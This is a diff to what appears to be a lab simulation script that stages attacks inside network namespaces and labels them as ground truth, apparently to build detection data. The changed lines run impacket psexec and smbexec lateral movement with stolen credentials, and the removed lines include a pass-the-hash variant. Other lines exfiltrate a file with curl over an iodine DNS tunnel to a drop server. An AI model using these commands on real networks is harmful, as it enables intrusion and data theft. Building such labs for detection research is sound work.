@@ -155,8 +155,8 @@ PY
 }
 intr_smb_lateral() { # from compromised ws2 to the file server with stolen credentials
   step_begin
-  qt nsx ws2 timeout 40 python3 $IMPACKET_EX/psexec.py -no-pass -hashes ":$(python3 -c 'import hashlib,sys;print(hashlib.new("md4",sys.argv[1].encode("utf-16le")).hexdigest())' "$SMB_PASS" 2>/dev/null || echo 0)" "MAIRIE/$SMB_USER@$IP_FS" "cmd.exe /c whoami"
-  qt nsx ws2 timeout 40 python3 $IMPACKET_EX/smbexec.py "MAIRIE/$SMB_USER:$SMB_PASS@$IP_FS"  < /dev/null
+  qt nsx ws2 timeout 40 /usr/bin/python3 $IMPACKET_EX/psexec.py "MAIRIE/$SMB_USER:$SMB_PASS@$IP_FS" "cmd.exe /c whoami"
+  qt nsx ws2 timeout 40 /usr/bin/python3 $IMPACKET_EX/smbexec.py "MAIRIE/$SMB_USER:$SMB_PASS@$IP_FS"  < /dev/null
   step_end
   gt_add intrusion smb_lateral "$IP_WS2" "$IP_FS" "$T0" "$T1" "Lateral movement over SMB from $IP_WS2 to $IP_FS with impacket psexec/smbexec: ADMIN\$ upload and svcctl service creation (CreateServiceW)" '{"tools": ["psexec.py", "smbexec.py"]}'
 }
@@ -223,11 +223,12 @@ exfil_dns_tunnel() { # ws kbytes
   # iodine client through the city's resolver (-r: never bypass DNS with raw UDP)
   setsid ip netns exec $P$ws timeout 150 iodine -f -r -P labtunnel $IP_DNS $TUNNEL_DOMAIN </dev/null >"$RD/log/iodine.log" 2>&1 &
   local ipid=$! i
-  for i in $(seq 1 60); do nsx "$ws" ip -4 addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done
-  if nsx "$ws" ip -4 addr show dns0 2>/dev/null | grep -q inet; then
-    setsid ip netns exec ${P}drop timeout 150 /usr/bin/python3 "$LAB_DIR/tools/upload_server.py" 172.30.66.1 8080 "$RD/log/tunnel-received.log" </dev/null >/dev/null 2>&1 &
-    local spid=$!; sleep 1
-    qt nsx "$ws" timeout 120 curl -s -o /dev/null --data-binary @"$f" http://172.30.66.1:8080/x
+  for i in $(seq 1 90); do grep -q "Connection setup complete" "$RD/log/iodine.log" 2>/dev/null && break; sleep 0.5; done
+  if grep -q "Connection setup complete" "$RD/log/iodine.log" 2>/dev/null; then
+    setsid ip netns exec ${P}drop timeout 150 /usr/bin/python3 "$LAB_DIR/tools/upload_server.py" 172.30.66.1 8080 "$RD/log/tunnel-received.log" </dev/null >"$RD/log/tunnel-server.log" 2>&1 &
+    local spid=$!
+    for i in $(seq 1 50); do nsx drop ss -lnt | grep -q "172.30.66.1:8080 " && break; sleep 0.2; done
+    qt nsx "$ws" timeout 120 curl -s -o /dev/null --retry 3 --retry-connrefused --data-binary @"$f" http://172.30.66.1:8080/x
     kill $spid 2>/dev/null || true
   else
     log "exfil_dns_tunnel: tunnel did not come up (see $RD/log/iodine.log)"
